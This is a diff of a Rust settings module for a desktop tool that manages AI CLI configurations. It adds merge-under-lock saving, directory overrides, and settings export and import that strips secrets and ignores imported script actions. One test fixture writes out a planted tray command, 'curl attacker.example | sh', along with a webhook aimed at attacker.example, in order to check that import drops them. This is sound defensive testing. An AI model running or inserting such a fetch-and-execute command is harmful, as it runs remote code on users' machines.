+        return Err(AppError::Config("无法获取用户主目录".to_string()));
+    };
+
+    // 界面与命令行可能同时修改设置：持锁期间重新读取文件、应用本次修改并写入，
+    // 不覆盖其他进程在本进程读取设置之后保存的内容
+    let _lock = crate::file_lock::lock(&path)?;
+    let base = get_settings();
+    let on_disk = read_settings_file(&path);
+    // 密码不参与序列化，须在合并前移入钥匙串
+    let legacy_password = on_disk
+        .as_ref()
+        .and_then(|settings| settings.webdav_sync.as_ref())
+        .map(|config| config.password.clone())
+        .filter(|password| !password.is_empty());
+    store_webdav_password(&mut new_settings, &base, legacy_password)?;
+    let merged = match on_disk {
+        Some(on_disk) => apply_changes(&base, &new_settings, on_disk)?,
+        None => new_settings,
+    };
+    save_settings_file(&path, &merged)?;
 
     let mut guard = settings_store().write().unwrap_or_else(|e| {
         log::warn!("设置锁已毒化，使用恢复值: {e}");
         e.into_inner()
     });
-    *guard = new_settings;
+    *guard = merged;
+    drop(guard);
+
+    crate::change_events::emit(crate::change_events::ChangeEvent::SettingsChanged);
     Ok(())
 }
 
@@ -241,36 +1012,100 @@ pub fn reload_settings() -> Result<(), AppError> {
     Ok(())
 }
 
-pub fn get_claude_override_dir() -> Option<PathBuf> {
+/// 若设置文件内容与内存缓存不一致，则重新加载
+///
+/// 返回 `Some(新设置)` 表示发生了外部修改（手动编辑、网盘同步等）；
+/// 自身写入的结果与缓存一致，返回 `None`。
+#[cfg(feature = "gui")]
+pub fn reload_settings_if_changed() -> Option<AppSettings> {
+    let fresh = AppSettings::load_from_file();
+    let mut guard = settings_store().write().unwrap_or_else(|e| {
+        log::warn!("设置锁已毒化，使用恢复值: {e}");
+        e.into_inner()
+    });
+
+    let unchanged = match (serde_json::to_value(&*guard), serde_json::to_value(&fresh)) {
+        (Ok(current), Ok(incoming)) => current == incoming,
+        _ => false,
+    };
+    if unchanged {
+        return None;
+    }
+
+    *guard = fresh.clone();
+    Some(fresh)
+}
+
+thread_local! {
+    /// 为 true 时当前线程忽略目录覆盖（见 [`with_default_config_dirs`]）
+    static DEFAULT_CONFIG_DIRS_ONLY: Cell<bool> = const { Cell::new(false) };
+}
+
+/// 在当前线程中忽略目录覆盖执行 `f`，用于把配置同时写入各应用的默认目录
+pub fn with_default_config_dirs<T>(f: impl FnOnce() -> T) -> T {
+    struct Restore(bool);
+    impl Drop for Restore {
+        fn drop(&mut self) {
+            DEFAULT_CONFIG_DIRS_ONLY.set(self.0);
+        }
+    }
+
+    let _restore = Restore(DEFAULT_CONFIG_DIRS_ONLY.replace(true));
+    f()
+}
+
+fn override_dir(app_type: &AppType) -> Option<PathBuf> {
+    if DEFAULT_CONFIG_DIRS_ONLY.get() {
+        return None;
+    }
     let settings = settings_store().read().ok()?;
     settings
-        .claude_config_dir
-        .as_ref()
-        .map(|p| resolve_override_path(p))
+        .config_dir_override(app_type)
+        .map(resolve_override_path)
+}
+
+pub fn get_claude_override_dir() -> Option<PathBuf> {
+    override_dir(&AppType::Claude)
 }
 
 pub fn get_codex_override_dir() -> Option<PathBuf> {
-    let settings = settings_store().read().ok()?;
-    settings
-        .codex_config_dir
-        .as_ref()
-        .map(|p| resolve_override_path(p))
+    override_dir(&AppType::Codex)
 }
 
 pub fn get_gemini_override_dir() -> Option<PathBuf> {
-    let settings = settings_store().read().ok()?;
-    settings
-        .gemini_config_dir
-        .as_ref()
-        .map(|p| resolve_override_path(p))
+    override_dir(&AppType::Gemini)
 }
 
 pub fn get_opencode_override_dir() -> Option<PathBuf> {
-    let settings = settings_store().read().ok()?;
-    settings
-        .opencode_config_dir
-        .as_ref()
-        .map(|p| resolve_override_path(p))
+    override_dir(&AppType::OpenCode)
+}
+
+/// 解析 live 配置文件路径：有覆盖时使用覆盖值（相对路径基于 `dir`），否则为 `dir/default_name`
+pub fn resolve_live_file(file: LiveFile, dir: &Path, default_name: &str) -> PathBuf {
+    let raw = settings_store()
+        .read()
+        .ok()
+        .and_then(|s| s.live_file_overrides.get(file).map(str::to_string));
+
+    match raw {
+        Some(raw) => {
+            let resolved = resolve_override_path(&raw);
+            if resolved.is_absolute() {
+                resolved
+            } else {
+                dir.join(resolved)
+            }
+        }
+        None => dir.join(default_name),
+    }
+}
+
+/// 指定 live 文件是否设置了路径覆盖
+pub fn has_live_file_override(file: LiveFile) -> bool {
+    settings_store()
+        .read()
+        .map(|s| s.live_file_overrides.get(file).is_some())
+        .unwrap_or(false)
 }
 
 // ===== 当前供应商管理函数 =====
@@ -340,3 +1175,237 @@ pub fn get_effective_current_provider(
     // Fallback 到数据库的 is_current
     db.get_current_provider(app_type.as_str())
 }
+
+// ===== 设置导入导出 =====
+
+impl AppSettings {
+    /// 清除设备级的当前供应商 ID
+    ///
+    /// 导出到其他设备时使用，避免新设备引用本机数据库中不存在的供应商。
+    #[cfg(feature = "gui")]
+    pub fn without_current_providers(mut self) -> Self {
+        self.current_provider_claude = None;
+        self.current_provider_codex = None;
+        self.current_provider_gemini = None;
+        self.current_provider_opencode = None;
+        self
+    }
+
+    /// 沿用本机只能通过专门命令修改的设置（只读模式、自动化 API、数据库配置档）
+    ///
+    /// 这些设置关系到本机的安全边界或正在使用的数据库，保存或导入设置时不得绕过对应命令。
+    /// 已开启的密钥访问保护同样不会被关闭（关闭需在 `save_settings` 中通过系统身份验证）。
+    pub fn keep_command_managed_state(&mut self, local: &AppSettings) {
+        self.read_only_mode = local.read_only_mode;
+        self.read_only_passphrase_hash = local.read_only_passphrase_hash.clone();
+        self.automation_api = local.automation_api.clone();
+        self.database_profile = local.database_profile.clone();
+        self.require_os_auth_for_secrets |= local.require_os_auth_for_secrets;
+    }
+
+    /// 去掉不应离开本机的内容：Webhook 地址（通常内含令牌）与只读模式的口令哈希
+    ///
+    /// WebDAV 密码保存在钥匙串中，本身不参与序列化。
+    #[cfg(any(feature = "gui", test))]
+    pub fn without_secrets(mut self) -> Self {
+        self.webhooks.clear();
+        self.read_only_passphrase_hash = None;
+        self
+    }
+
+    /// 导入时沿用本机的安全相关设置
+    ///
+    /// 除 [`Self::keep_command_managed_state`] 外，Webhook、WebDAV 与 S3 的目标地址也沿用
+    /// 本机的值：导入的文件可能来自他人，不能借此把本机的事件或数据发往其他服务器。
+    /// 导入文件中的「运行脚本」托盘操作同样会被丢弃，本机已有的保留。
+    #[cfg(any(feature = "gui", test))]
+    pub fn keep_local_security_settings(&mut self, local: &AppSettings) {
+        self.keep_command_managed_state(local);
+        self.webhooks = local.webhooks.clone();
+        self.webdav_sync = local.webdav_sync.clone();
+        self.s3_backup = local.s3_backup.clone();
+
+        let dropped = self
+            .tray_quick_actions
+            .iter()
+            .filter(|action| matches!(action.kind, TrayQuickActionKind::RunScript { .. }))
+            .count();
+        if dropped > 0 {
+            log::warn!("导入的设置包含 {dropped} 个运行脚本的托盘操作，已忽略");
+        }
+        self.tray_quick_actions
+            .retain(|action| !matches!(action.kind, TrayQuickActionKind::RunScript { .. }));
+        self.tray_quick_actions.extend(
+            local
+                .tray_quick_actions
+                .iter()
+                .filter(|action| matches!(action.kind, TrayQuickActionKind::RunScript { .. }))
+                .cloned(),
+        );
+    }
+
+    /// 沿用本机各应用的当前供应商
+    #[cfg(feature = "gui")]
+    pub fn keep_current_providers(&mut self, local: &AppSettings) {
+        self.current_provider_claude = local.current_provider_claude.clone();
+        self.current_provider_codex = local.current_provider_codex.clone();
+        self.current_provider_gemini = local.current_provider_gemini.clone();
+        self.current_provider_opencode = local.current_provider_opencode.clone();
+    }
+
+    /// 沿用本机的配置目录覆盖（迁移到其他设备时，原设备上的路径通常不存在）
+    #[cfg(feature = "gui")]
+    pub fn keep_device_paths(&mut self, local: &AppSettings) {
+        self.enable_config_dir_overrides = local.enable_config_dir_overrides;
+        self.sync_provider_switch_to_both_config_dirs =
+            local.sync_provider_switch_to_both_config_dirs;
+        self.claude_config_dir = local.claude_config_dir.clone();
+        self.codex_config_dir = local.codex_config_dir.clone();
+        self.gemini_config_dir = local.gemini_config_dir.clone();
+        self.opencode_config_dir = local.opencode_config_dir.clone();
+    }
+}
+
+/// 导出设置为 JSON 字符串（不含密码、Webhook 地址等敏感内容，见 [`AppSettings::without_secrets`]）
+///
+/// `include_current_providers` 为 `false` 时会去掉当前供应商 ID，
+/// 便于一键配置新设备。
+#[cfg(feature = "gui")]
+pub fn export_settings(include_current_providers: bool) -> Result<String, AppError> {
+    let mut settings = get_settings().without_secrets();
+    if !include_current_providers {
+        settings = settings.without_current_providers();
+    }
+    serde_json::to_string_pretty(&settings).map_err(|e| AppError::JsonSerialize { source: e })
+}
+
+/// 从 JSON 字符串导入设置并持久化
+///
+/// 导入内容未携带当前供应商 ID 时，保留本机已有的选择；安全相关的设置始终沿用本机的值
+/// （见 [`AppSettings::keep_local_security_settings`]）。
+#[cfg(feature = "gui")]
+pub fn import_settings(json: &str) -> Result<AppSettings, AppError> {
+    let mut imported: AppSettings = serde_json::from_str(json.trim_start_matches('\u{feff}'))
+        .map_err(|e| {
+            AppError::localized(
+                "settings.import.invalid_json",
+                format!("设置文件格式无效: {e}"),
+                format!("Invalid settings file: {e}"),
+            )
+        })?;
+
+    let local = get_settings();
+    imported.keep_local_security_settings(&local);
+    if imported.current_provider_claude.is_none() {
+        imported.current_provider_claude = local.current_provider_claude;
+    }
+    if imported.current_provider_codex.is_none() {
+        imported.current_provider_codex = local.current_provider_codex;
+    }
+    if imported.current_provider_gemini.is_none() {
+        imported.current_provider_gemini = local.current_provider_gemini;
+    }
+    if imported.current_provider_opencode.is_none() {
+        imported.current_provider_opencode = local.current_provider_opencode;
+    }
+
+    update_settings(imported)?;
+    Ok(get_settings())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn apply_changes_keeps_fields_saved_by_other_processes() {
+        let base = AppSettings::default();
+
+        let mut ours = base.clone();
+        ours.start_minimized = !base.start_minimized;
+
+        // 另一个进程在本进程读取之后修改了语言与当前供应商
+        let mut on_disk = base.clone();
+        on_disk.language = Some("en".to_string());
+        on_disk.current_provider_claude = Some("from-cli".to_string());
+
+        let merged = apply_changes(&base, &ours, on_disk).expect("apply changes");
+        assert_eq!(merged.start_minimized, ours.start_minimized);
+        assert_eq!(merged.language.as_deref(), Some("en"));
+        assert_eq!(merged.current_provider_claude.as_deref(), Some("from-cli"));
+
+        // 同一字段以本次修改为准，包括清除
+        let mut ours = base.clone();
+        ours.current_provider_claude = Some("from-gui".to_string());
+        let mut on_disk = base.clone();
+        on_disk.current_provider_claude = Some("from-cli".to_string());
+        let merged = apply_changes(&base, &ours, on_disk).expect("apply changes");
+        assert_eq!(merged.current_provider_claude.as_deref(), Some("from-gui"));
+
+        let mut base_with_provider = base.clone();
+        base_with_provider.current_provider_claude = Some("old".to_string());
+        let merged = apply_changes(&base_with_provider, &base, base_with_provider.clone())
+            .expect("apply changes");
+        assert!(merged.current_provider_claude.is_none());
+    }
+
+    #[test]
+    fn exported_settings_leave_secrets_and_imported_ones_keep_local_security() {
+        let mut local = AppSettings::default();
+        local.webdav_sync = Some(WebDavSyncConfig {
+            url: "https://dav.example".to_string(),
+            username: "me".to_string(),
+            password: "dav-secret".to_string(),
+            ..Default::default()
+        });
+        local.webhooks = vec![WebhookConfig {
+            url: "https://hooks.example/T000/secret".to_string(),
+            format: WebhookFormat::Slack,
+            events: WebhookEvent::ALL.to_vec(),
+            enabled: true,
+        }];
+        local.read_only_passphrase_hash = Some("hash".to_string());
+        local.tray_quick_actions = vec![TrayQuickAction {
+            label: "mine".to_string(),
+            kind: TrayQuickActionKind::RunScript {
+                command: "echo local".to_string(),
+            },
+        }];
+
+        let exported = serde_json::to_string(&local.clone().without_secrets()).unwrap();
+        for secret in ["dav-secret", "hooks.example", "\"hash\""] {
+            assert!(!exported.contains(secret), "export leaks {secret}");
+        }
+
+        let mut imported = AppSettings::default();
+        imported.webhooks = vec![WebhookConfig {
+            url: "https://attacker.example".to_string(),
+            ..local.webhooks[0].clone()
+        }];
+        imported.tray_quick_actions = vec![
+            TrayQuickAction {
+                label: "planted".to_string(),
+                kind: TrayQuickActionKind::RunScript {
+                    command: "curl attacker.example | sh".to_string(),
+                },
+            },
+            TrayQuickAction {
+                label: "config".to_string(),
+                kind: TrayQuickActionKind::OpenConfigDir {
+                    app: AppType::Claude,
+                },
+            },
+        ];
+        imported.keep_local_security_settings(&local);
+
+        assert_eq!(imported.webhooks, local.webhooks);
+        assert_eq!(imported.webdav_sync, local.webdav_sync);
+        assert_eq!(imported.read_only_passphrase_hash.as_deref(), Some("hash"));
+        let labels = imported
+            .tray_quick_actions
+            .iter()
+            .map(|action| action.label.as_str())
+            .collect::<Vec<_>>();
+        assert_eq!(labels, vec!["config", "mine"]);
+    }
+}